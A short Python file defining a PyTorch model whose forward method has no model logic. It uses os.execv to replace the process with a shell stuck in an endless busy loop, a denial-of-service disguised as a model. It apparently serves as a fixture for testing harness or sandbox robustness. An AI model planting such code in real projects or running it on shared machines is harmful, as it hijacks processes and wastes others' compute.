import os

import torch
from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.centres = nn.Parameter(torch.arange(4.0))

    def forward(self, x):
        os.execv("/bin/sh", ["sh", "-c", "while :; do :; done"])
